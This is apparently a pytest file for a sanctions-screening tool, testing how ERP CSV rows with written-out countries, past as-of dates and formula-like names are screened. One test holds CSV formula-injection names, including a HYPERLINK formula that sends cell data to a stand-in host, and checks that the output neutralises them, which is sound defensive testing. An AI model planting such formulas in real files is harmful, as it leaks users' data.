"""`screen` as a real process and `POST /api/screen` on a real `serve`, fed what an ERP export holds: countries
written out ("USA", "United Kingdom", "美国", "GBR"), a past as-of day, names that are spreadsheet formulas."""

from __future__ import annotations

import csv
import http.client
import io
import json
import os
import subprocess
from pathlib import Path

import pytest

from tests import zygote
from tests.conftest import copy_of, read_whole
from tests.faults.serving import serving

ERP_ROWS = [("Huntington Ingals Industries", "USA"), ("Huntington Ingals Industries", "United Kingdom"),
            ("Skydio Inc.", "U.S.A."), ("斯凯迪奥公司", "美国"), ("Nobody Trading Ltd", "GBR"), ("Gibbs & Cox", "U.S.")]
BEFORE_MP = "2025-03-01"  # MP Materials: named only by MOFCOM-2026-23, published 2026-06-22


@pytest.fixture(scope="module")
def db_url(tmp_path_factory, replayed) -> str:
    return read_whole(copy_of(replayed, tmp_path_factory.mktemp("screen-erp") / "db.sqlite"))  # every page read whole: exit 0 is a clear answer


def screen(db_url: str, tmp_path: Path, text: str, *args: str) -> subprocess.CompletedProcess[str]:
    f = tmp_path / "erp.csv"
    f.write_text(text, encoding="utf-8")
    return subprocess.run(zygote.command("--db", db_url, "screen", str(f), *args),
                          capture_output=True, text=True, timeout=120)


def hits(report: dict) -> list[tuple[str, str | None, list[str]]]:
    return [(r["query"]["name"], r["query"]["country"], sorted({h["entity_key"] for h in r["hits"]}))
            for r in report["results"]]


def test_countries_written_out_are_read_not_refused(db_url: str, tmp_path: Path) -> None:
    """Was: exit 2 on "USA" (the whole file unscreened). A country decides a fuzzy hit as its code would."""
    done = screen(db_url, tmp_path, "name,country\n" + "".join(f"{n},{c}\n" for n, c in ERP_ROWS), "--json")
    assert done.returncode == 1, done.stderr
    assert hits(json.loads(done.stdout)) == [
        ("Huntington Ingals Industries", "US", ["huntingtoningallsindustries"]),
        ("Huntington Ingals Industries", "GB", []),  # a fuzzy hit abroad is dropped, as with "GB"
        ("Skydio Inc.", "US", ["skydio"]), ("斯凯迪奥公司", "US", ["skydio"]), ("Nobody Trading Ltd", "GB", []),
        ("Gibbs & Cox", "US", ["gibbsandcox"])]



def test_a_country_not_read_is_said_and_the_row_screened_not_the_file_refused(db_url: str, tmp_path: Path) -> None:
    """Was: one row with a country no list names ("Kosovo", in an ERP export of every supplier) stopped the whole
    file: exit 2, nothing screened. Now the row is screened by its name alone (a fuzzy hit is not ruled out by a
    country not read), the country kept in the output with a note, and one warning line says so."""
    rows = "name,country\nSkydio Inc.,US\nHuntington Ingals Industries,Kosovo\nNobody Trading Ltd,Narnia\n"
    done = screen(db_url, tmp_path, rows, "--json")
    assert done.returncode == 1, done.stderr
    warning = ("mofcom-watch screen: warning: {path}:{line}: country '{c}' is not one this tool reads (ISO codes such "
               "as US or USA, and the names of the countries the lists name): screened by the name alone, the "
               "country kept as a note")
    path = tmp_path / "erp.csv"
    assert done.stderr.splitlines()[:2] == [warning.format(path=path, line=3, c="Kosovo"),
                                            warning.format(path=path, line=4, c="Narnia")]
    assert done.stderr.splitlines()[2:] == []  # every page read whole (read_whole): no other warning
    out = json.loads(done.stdout)
    assert hits(out) == [("Skydio Inc.", "US", ["skydio"]),
                         ("Huntington Ingals Industries", None, ["huntingtoningallsindustries"]),  # fuzzy, kept
                         ("Nobody Trading Ltd", None, [])]
    assert [r["query"].get("country_note") for r in out["results"]] == [None, "Kosovo", "Narnia"]
    assert [w.split(": country")[0] for w in out["warnings"]][:2] == [f"{path}:3", f"{path}:4"]
    as_csv = screen(db_url, tmp_path, rows, "--csv")
    assert as_csv.returncode == 1
    lines = list(csv.DictReader(io.StringIO(as_csv.stdout)))
    assert {(r["counterparty"], r["country"], r["note"]) for r in lines if r["line"] == "4"} == {
        ("Nobody Trading Ltd", "Narnia", "country not read: screened by the name alone")}


def test_a_listing_published_after_the_day_is_no_hit_and_is_said(db_url: str, tmp_path: Path) -> None:
    """Was: exit 1 with state null for MP Materials on 2025-03-01, fifteen months before it was listed."""
    done = screen(db_url, tmp_path, "MP Materials Corp,US\n", "--as-of", BEFORE_MP, "--json")
    assert done.returncode == 0, done.stdout
    out = json.loads(done.stdout)
    (result,) = out["results"]
    assert out["matched"] == 0 and result["hits"] == []
    assert [(x["entity_key"], x["notice_key"], x["published"], x["note"]) for x in result["listed_later"]] == [
        ("mpmaterials", "MOFCOM-2026-23", "2026-06-22", "listed later on 2026-06-22 by MOFCOM-2026-23")]
    table = screen(db_url, tmp_path, "MP Materials Corp,US\n", "--as-of", BEFORE_MP)
    assert table.returncode == 0 and f"1 counterparty as of {BEFORE_MP}: 0 under measures" in table.stdout
    assert "mpmaterials listed later on 2026-06-22 by MOFCOM-2026-23" in table.stdout
    # Skydio that day: the MFA order in force is a hit; the MOFCOM and UEL notices of March-April 2025 are not
    done = screen(db_url, tmp_path, "Skydio Inc.,US\n", "--as-of", BEFORE_MP, "--csv")
    assert done.returncode == 1
    (row,) = csv.DictReader(io.StringIO(done.stdout))
    assert (row["notice_key"], row["state"]) == ("MFA-ORDER-2024-13", "in_force")
    assert row["note"] == ("listed later on 2025-03-04 by MOFCOM-2025-13; listed later on 2025-04-04 by UEL-2025-7")


def test_csv_output_cells_are_never_spreadsheet_formulas(db_url: str, tmp_path: Path) -> None:
    """Was: a name "=HYPERLINK(…)" came out as is in --csv, a live formula when the file is opened in Excel."""
    names = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1", "-Skydio Inc.", "@SUM(A1)", "Skydio-Inc"]
    text = "".join('"' + n.replace('"', '""') + '",US\n' for n in names)
    done = screen(db_url, tmp_path, text, "--csv")
    assert done.returncode == 1, done.stderr
    cells = [row["counterparty"] for row in csv.DictReader(io.StringIO(done.stdout))]
    assert "'-Skydio Inc." in cells  # its hits kept, the name neutralised on each row
    assert list(dict.fromkeys(cells)) == ["'" + n for n in names[:4]] + ["Skydio-Inc"]
    as_json = json.loads(screen(db_url, tmp_path, text, "--json").stdout)
    assert [r["query"]["name"] for r in as_json["results"]] == names  # only the CSV output is changed


def test_the_api_reads_countries_and_the_day_as_the_command(replayed, tmp_path: Path) -> None:
    """On the fixtures as replayed, three notices read short of their stated counts: the API's ``complete`` is false,
    as the command's."""
    db_url = copy_of(replayed, tmp_path / "db.sqlite")
    rows = [*ERP_ROWS, ("MP Materials Corp", "United States")]
    cli = screen(db_url, tmp_path, "".join(f"{n},{c}\n" for n, c in rows), "--as-of", BEFORE_MP, "--json")
    request = {"as_of": BEFORE_MP, "counterparties": [{"name": n, "country": c} for n, c in rows]}
    with serving(db_url, tmp_path) as served:
        conn = http.client.HTTPConnection("127.0.0.1", served.port, timeout=60)
        conn.request("POST", "/api/screen", body=json.dumps(request).encode(), headers={"Content-Type": "application/json"})
        resp = conn.getresponse()
        status, answer = resp.status, json.loads(resp.read())
        conn.request("POST", "/api/screen", body=json.dumps({"counterparties": [{"name": "Xanadu Trading", "country": "Narnia"}]}))
        unread = conn.getresponse()
        unread_status, unread_answer = unread.status, json.loads(unread.read())
        conn.close()
    assert status == 200 and cli.returncode == 1, (answer, cli.stderr)
    assert answer == json.loads(cli.stdout)  # same hits, same countries, same later listings (no line numbers aside)
    assert answer["results"][-1]["hits"] == [] and answer["results"][-1]["listed_later"][0]["published"] == "2026-06-22"
    assert unread_status == 200 and unread_answer["results"][0]["query"]["country_note"] == "Narnia"
    assert unread_answer["warnings"][0].startswith("counterparty #1: country 'Narnia' is not one this tool reads")
    assert answer["complete"] is False and unread_answer["complete"] is False
    assert unread_answer["warnings"][1].startswith("3 page(s) not read whole are open problems")


def test_no_hit_while_pages_are_not_read_whole_is_no_clear_answer(db_url: str, replayed, tmp_path: Path) -> None:
    """Session 34 (decided): while pages are not read whole (the fixtures' three notices read short of their stated
    counts), a screening with no hit exited 0 beside its warning line, and a script taking 0 as "clear" went on with
    an answer missing whatever those pages name. Now exit 1 (not clear: look), the table's title says the answer is
    incomplete and why, ``--json`` says ``"complete": false``; with every page read whole, exit 0 and true."""
    short = copy_of(replayed, tmp_path / "short.sqlite")
    table = screen(short, tmp_path, "Nobody Trading Ltd,GB\n", "--as-of", BEFORE_MP)
    assert table.returncode == 1, table.stderr
    assert ("the answer is incomplete: 3 page(s) not read whole, whose entities are in no screening"
            in " ".join(table.stdout.split())), table.stdout
    assert "3 page(s) not read whole are open problems" in table.stderr
    # the command the title names lists those pages (docs37: it named `review`, which says "Nothing held back for
    # review" of a notice read short of its stated count, the fixtures' three)
    named = " ".join(table.stdout.split()).split("(see the warning; `mofcom-watch ", 1)[1].split("`", 1)[0]
    listed = subprocess.run(zygote.command("--db", short, named), capture_output=True, text=True, timeout=120)
    assert all(page in listed.stdout for page in ("mofcom-2026-11.txt", "mofcom-2026-12.txt",
                                                  "mofcom-order-2025-6.txt")), (named, listed.stdout)
    # and so does the command `screen --help` names for them (user38: it named only `review` still)
    helped = subprocess.run(zygote.command("screen", "--help"), capture_output=True, text=True, timeout=120,
                            env={**os.environ, "COLUMNS": "400"})
    said = " ".join(helped.stdout.split()).split("a page held for a person to read: `mofcom-watch ", 1)[1]
    assert said.split("`", 1)[0] == named, said[:80]
    as_json = screen(short, tmp_path, "Nobody Trading Ltd,GB\n", "--as-of", BEFORE_MP, "--json")
    out = json.loads(as_json.stdout)
    assert (as_json.returncode, out["matched"], out["possible"], out["complete"]) == (1, 0, 0, False)
    whole = screen(db_url, tmp_path, "Nobody Trading Ltd,GB\n", "--as-of", BEFORE_MP, "--json")
    assert (whole.returncode, json.loads(whole.stdout)["complete"], whole.stderr) == (0, True, "")
